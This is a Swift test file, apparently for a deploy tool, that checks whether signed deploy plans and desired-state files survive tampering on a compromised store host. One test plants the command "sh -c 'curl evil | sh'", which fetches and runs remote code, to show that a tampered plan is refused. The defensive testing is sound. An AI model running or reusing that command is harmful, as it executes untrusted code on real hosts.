import BerthCore
@testable import BerthEngine
import Foundation
import Testing

/// What a compromised release store host can and cannot do once the controller signs plans, and
/// how a publish makes its state visible (one rename, under a lock).
@Suite struct SignedStoreTests {
    let dir: TemporaryDirectory
    let store: CatchUpStore
    let host: Host
    let keyFile: String
    let publicKey: String

    init() throws {
        dir = try TemporaryDirectory("berth-signed-store-tests")
        store = CatchUpStore(layout: StoreLayout(path: "\(dir.path)/store", app: "hello", env: "production"),
                             authorizedKeysFile: "\(dir.path)/ssh/authorized_keys")
        host = try Host()
        keyFile = "\(dir.path)/deploy_ed25519"
        try runProgram(PlanSigning.makeKey(file: keyFile, comment: "berth-deploy@test"))
        publicKey = try String(contentsOfFile: keyFile + ".pub", encoding: .utf8).trimmingCharacters(in: .newlines)
    }

    func sign(_ text: String, namespace: String = PlanSigning.namespace) throws -> String {
        let file = "\(dir.path)/to-sign-\(UUID().uuidString).json"
        try text.write(toFile: file, atomically: true, encoding: .utf8)
        let result = try runProgram(PlanSigning.sign(keyFile: keyFile, file: file, namespace: namespace))
        guard result.status == 0 else { throw POSIXFailure("ssh-keygen -Y sign: \(result.stderr)") }
        return try String(contentsOfFile: file + ".sig", encoding: .utf8)
    }

    /// A request as the controller makes it: every host's plan signed.
    func request(_ release: ReleaseRef, hosts: [String] = ["h1", "h2"], issuedAt: String = "2026-12-01T10:00:00.000Z") throws -> PublishRequest {
        host.catchUp = CatchUpSource(address: "10.0.0.5", path: "\(dir.path)/store", waitMs: 0, signer: publicKey, issuedAt: issuedAt)
        let plans = hosts.map { name -> DeployPlan in
            var plan = host.plan(.deploy, release)
            plan.host = name
            return plan
        }
        var request = PublishRequest(app: "hello", env: "production", path: "\(dir.path)/store", release: release, plans: plans,
                                     keys: [], keep: 2, requestedBy: Samples.requester, root: "/var/lib/berth")
        request.signed = try plans.map { plan in
            let text = String(decoding: try JSONEncoder().encode(plan), as: UTF8.self) + "\n"
            return SignedPlan(host: plan.host, plan: text, signature: try sign(text))
        }
        // The desired state, made from the store's current one as the controller makes it.
        let desired = DesiredState.next(after: try store.desired(), app: "hello", env: "production", release: release, hosts: hosts,
                                        keep: request.keep, publishedAt: issuedAt, requestedBy: Samples.requester)
        let text = String(decoding: try JSONEncoder().encode(desired), as: UTF8.self) + "\n"
        request.signedDesired = SignedDesired(text: text, signature: try sign(text, namespace: PlanSigning.desiredNamespace))
        return request
    }

    /// The host h1 as a catch-up sees it: its settings, with the allowed_signers a deploy wrote.
    func verifier(newest: String? = nil) throws -> PlanVerification {
        let settings = CatchUpSettings(app: "hello", env: "production", host: "h1", root: host.layout.root,
                                       systemdDir: host.layout.systemdDir, nginxDir: host.layout.nginxDir,
                                       source: CatchUpSource(address: "10.0.0.5", path: "\(dir.path)/store", waitMs: 0, signer: publicKey))
        try FileManager.default.createDirectory(atPath: host.layout.catchUpDir, withIntermediateDirectories: true)
        try PlanVerification.install(signer: publicKey, issuedAt: newest, layout: host.layout)
        return PlanVerification(settings: settings)
    }

    /// What `serve-store … h1` answers, read back from the store's files.
    func answer() throws -> CatchUpAnswer {
        let state = try #require(store.currentState())
        let text = try String(contentsOfFile: StoreLayout.planFile(in: state, host: "h1"), encoding: .utf8)
        var answer = CatchUpAnswer(desired: try store.desired(), plan: try EngineJSON.decode(DeployPlan.self, from: Array(text.utf8)),
                                   signedPlan: text, signature: try String(contentsOfFile: StoreLayout.signatureFile(in: state, host: "h1"), encoding: .utf8))
        answer.signedDesired = SignedDesired(text: try String(contentsOfFile: StoreLayout.desiredFile(in: state), encoding: .utf8),
                                             signature: try String(contentsOfFile: StoreLayout.desiredSignatureFile(in: state), encoding: .utf8))
        return answer
    }

    /// Rewrites the published desired.json through `change`, as someone with root on the store host could.
    func editDesired(_ change: (inout [String: Any]) -> Void) throws {
        let file = StoreLayout.desiredFile(in: try #require(store.currentState()))
        var object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: file))) as? [String: Any])
        change(&object)
        try (String(decoding: try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]), as: UTF8.self) + "\n")
            .write(toFile: file, atomically: true, encoding: .utf8)
    }

    @Test func aSignedPlanIsKeptAsSignedAndTrusted() async throws {
        defer { dir.remove() }
        let release = host.release("1.0.0")
        let request = try request(release)
        try await store.publish(request, archive: .file(try host.archive("1.0.0")), events: CollectingSink())
        let answer = try answer()
        #expect(answer.signedPlan == request.signed?.first?.plan)
        #expect(answer.signedDesired == request.signedDesired, "desired.json is the text the controller signed, and its signature is beside it")
        let desired = try EngineJSON.decode(DesiredState.self, from: Array(try #require(request.signedDesired).text.utf8))
        #expect(await try verifier().check(answer) == .trusted(request.plans[0], desired))
    }

    @Test func aPlanChangedOnTheStoreIsRefused() async throws {
        defer { dir.remove() }
        try await store.publish(try request(host.release("1.0.0")), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
        // Someone with root on the store host gives h1 a command of their own.
        let state = try #require(store.currentState())
        let file = StoreLayout.planFile(in: state, host: "h1")
        let text = try String(contentsOfFile: file, encoding: .utf8)
        try text.replacingOccurrences(of: "python3 server.py", with: "sh -c 'curl evil | sh'").write(toFile: file, atomically: true, encoding: .utf8)
        guard case let .refused(reason) = await try verifier().check(try answer()) else {
            Issue.record("a changed plan was trusted")
            return
        }
        #expect(reason.hasPrefix("ssh-keygen: "), "\(reason)")

        // A signature of the plan of another host does not make it this host's.
        let h2 = try String(contentsOfFile: StoreLayout.planFile(in: state, host: "h2"), encoding: .utf8)
        let h2Signature = try String(contentsOfFile: StoreLayout.signatureFile(in: state, host: "h2"), encoding: .utf8)
        var swapped = try answer()
        swapped.signedPlan = h2
        swapped.signature = h2Signature
        #expect(await try verifier().check(swapped) == .refused("the signed plan is for hello (production) on h2, not for this host"))

        // Without a signature, nothing runs.
        swapped.signature = nil
        #expect(await try verifier().check(swapped) == .refused("it came without a signature"))
    }

    @Test func aDesiredReleaseChangedOnTheStoreIsRefused() async throws {
        defer { dir.remove() }
        let v1 = host.release("1.0.0"), v2 = host.release("2.0.0")
        try await store.publish(try request(v1), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
        try await store.publish(try request(v2), archive: .file(try host.archive("2.0.0")), events: CollectingSink())
        // desired.json is pointed back at the older release the store still keeps.
        try editDesired { $0["release"] = (($0["kept"] as? [Any]) ?? []).last }
        #expect(try store.desired()?.release.id == v1.id, "the test changed desired.json")
        guard case let .refusedDesired(reason) = await try verifier().check(try answer()) else {
            Issue.record("a changed desired release was trusted")
            return
        }
        #expect(reason.hasPrefix("ssh-keygen: "), "\(reason)")

        // Signed, but for another release than the signed plan: still refused.
        var mixed = try answer()
        let older = DesiredState.next(after: nil, app: "hello", env: "production", release: v1, hosts: ["h1", "h2"], keep: 2,
                                      publishedAt: "2026-12-01T10:00:00.000Z", requestedBy: Samples.requester)
        let olderText = String(decoding: try JSONEncoder().encode(older), as: UTF8.self) + "\n"
        mixed.signedDesired = SignedDesired(text: olderText, signature: try sign(olderText, namespace: PlanSigning.desiredNamespace))
        #expect(await try verifier().check(mixed) == .refused("desired.json names release \(v1.id) but the signed plan names \(v2.id)"))
    }

    /// Any field of desired.json is the controller's: a changed `kept` or `publishedAt` is refused
    /// as surely as a changed release, and so is a desired state without its signature, or one
    /// signed as a plan.
    @Test func anyFieldOfDesiredJSONChangedOnTheStoreIsRefused() async throws {
        defer { dir.remove() }
        let v1 = host.release("1.0.0"), v2 = host.release("2.0.0")
        try await store.publish(try request(v1), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
        try await store.publish(try request(v2), archive: .file(try host.archive("2.0.0")), events: CollectingSink())
        guard case .trusted = await try verifier().check(try answer()) else {
            Issue.record("the desired state as the controller signed it must be trusted")
            return
        }
        let signed = try answer().signedDesired
        let edits: [(String, (inout [String: Any]) -> Void)] = [
            ("kept", { $0["kept"] = Array((($0["kept"] as? [Any]) ?? []).prefix(1)) }),
            ("publishedAt", { $0["publishedAt"] = "2030-01-01T00:00:00.000Z" }),
            ("hosts", { $0["hosts"] = ["h1"] }),
            ("requestedBy", { $0["requestedBy"] = ["user": "mallory", "machine": "store", "pid": 1, "command": "vi"] }),
        ]
        for (field, edit) in edits {
            try editDesired(edit)
            let answer = try answer()
            #expect(answer.signedDesired?.text != signed?.text, "the test changed \(field)")
            guard case let .refusedDesired(reason) = await try verifier().check(answer) else {
                Issue.record("desired.json with a changed \(field) was trusted")
                continue
            }
            #expect(reason.hasPrefix("ssh-keygen: "), "\(field): \(reason)")
            try #require(signed).text.write(toFile: StoreLayout.desiredFile(in: try #require(store.currentState())), atomically: true, encoding: .utf8)
        }

        var unsigned = try answer()
        unsigned.signedDesired = nil
        #expect(await try verifier().check(unsigned) == .refusedDesired("it came without a signature"))

        // A signature made for plans does not stand for a desired state.
        var asPlan = try answer()
        let text = try #require(asPlan.signedDesired).text
        asPlan.signedDesired = SignedDesired(text: text, signature: try sign(text, namespace: PlanSigning.namespace))
        guard case let .refusedDesired(reason) = await try verifier().check(asPlan) else {
            Issue.record("a desired state signed in the plans' namespace was trusted")
            return
        }
        #expect(reason.hasPrefix("ssh-keygen: "), "\(reason)")
    }

    /// The store keeps the controller's desired state only for the publish it came with.
    @Test func aStoreRefusesASignedDesiredStateOfAnotherPublish() async throws {
        defer { dir.remove() }
        let v1 = host.release("1.0.0"), v2 = host.release("2.0.0")
        var request = try request(v2)
        request.signedDesired = try self.request(v1).signedDesired
        await #expect(throws: EngineError.self) {
            try await store.publish(request, archive: .file(try host.archive("2.0.0")), events: CollectingSink())
        }
        #expect(try store.desired() == nil)
    }

    /// An old signed plan served again (or a store behind a deploy that did not publish) changes nothing.
    @Test func aSignedPlanOlderThanTheNewestThisHostRanIsNotRun() async throws {
        defer { dir.remove() }
        let release = host.release("1.0.0")
        try await store.publish(try request(release, issuedAt: "2026-12-01T10:00:00.5Z"), archive: .file(try host.archive("1.0.0")),
                                events: CollectingSink())
        // This host already ran a plan made later (a deploy reached it directly).
        #expect(await try verifier(newest: "2026-12-01T10:00:01.000Z").check(try answer())
            == .stale(issued: "2026-12-01T10:00:00.5Z", newest: "2026-12-01T10:00:01.000Z"))
        guard case .trusted = await try verifier(newest: "2026-12-01T10:00:00.500Z").check(try answer()) else {
            Issue.record("the newest plan itself must be trusted")
            return
        }
        #expect(PlanVerification.isOlder("2026-12-01T09:59:59Z", than: "2026-12-01T10:00:00.001Z"))
        #expect(!PlanVerification.isOlder("2026-12-01T10:00:00.1Z", than: "2026-12-01T10:00:00.099Z"))
    }

    @Test func aPublishSwapsOneLinkAndLeavesOneState() async throws {
        defer { dir.remove() }
        try await store.publish(try request(host.release("1.0.0")), archive: .file(try host.archive("1.0.0")), events: CollectingSink())
        let first = try #require(Files.linkTarget(store.layout.currentLink))
        try await store.publish(try request(host.release("2.0.0")), archive: .file(try host.archive("2.0.0")), events: CollectingSink())
        let second = try #require(Files.linkTarget(store.layout.currentLink))
        #expect(first != second && second.hasPrefix("states/"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: store.layout.statesDir) == [String(second.dropFirst("states/".count))])
        let inState = try FileManager.default.contentsOfDirectory(atPath: "\(store.layout.envDir)/\(second)/plans").sorted()
        #expect(inState == ["h1.json", "h1.json.sig", "h2.json", "h2.json.sig"])
        #expect(FileManager.default.fileExists(atPath: store.layout.publishLock))
    }

    @Test func aPublishWaitsForTheOneBeforeIt() async throws {
        defer { dir.remove() }
        try FileManager.default.createDirectory(atPath: "\(dir.path)/store", withIntermediateDirectories: true)
        let held = try FileLock.acquire(store.layout.publishLock)
        let request = try request(host.release("1.0.0"))
        let archive = try host.archive("1.0.0")
        let store = self.store
        let publishing = Task { try await store.publish(request, archive: .file(archive), events: CollectingSink()) }
        try await Task.sleep(for: .milliseconds(300))
        #expect(try store.desired() == nil, "nothing is published while another publish holds the lock")
        held.release()
        try await publishing.value
        #expect(try store.desired()?.release == request.release)
    }

    /// Many engines rewriting one `authorized_keys` at once (threads here; processes on a store
    /// host): each environment's line survives.
    @Test func concurrentPublishesOfManyEnvironmentsKeepEveryKeyLine() throws {
        defer { dir.remove() }
        let file = "\(dir.path)/ssh/authorized_keys"
        for round in 0..<5 {
            let count = 16
            DispatchQueue.concurrentPerform(iterations: count) { index in
                let env = "env\(round)x\(index)"
                let store = CatchUpStore(layout: StoreLayout(path: "\(dir.path)/store", app: "hello", env: env), authorizedKeysFile: file)
                let key = HostKey(host: "h1", publicKey: "ssh-ed25519 AAAA\(round)x\(index) berth-catchup:hello/\(env)/h1")
                try? store.authorize([key], hosts: ["h1"], engineLink: "/var/lib/berth/engine/berth-engine")
            }
            let lines = try String(contentsOfFile: file, encoding: .utf8).split(separator: "\n")
            #expect(lines.count == (round + 1) * count, "round \(round): \(lines.count) lines")
        }
    }

    @Test func hostKeysMayConnectOnlyFromTheirAddresses() throws {
        defer { dir.remove() }
        let key = HostKey(host: "h1", publicKey: "ssh-ed25519 AAAAkey berth-catchup:hello/production/h1")
        try store.authorize([key], hosts: ["h1"], engineLink: "/e", from: ["h1": ["10.0.0.7"]])
        let line = try String(contentsOfFile: "\(dir.path)/ssh/authorized_keys", encoding: .utf8)
        #expect(line == #"restrict,from="10.0.0.7",command="/e serve-store \#(dir.path)/store hello production h1" ssh-ed25519 AAAAkey berth-catchup:hello/production/h1"# + "\n")
    }
}
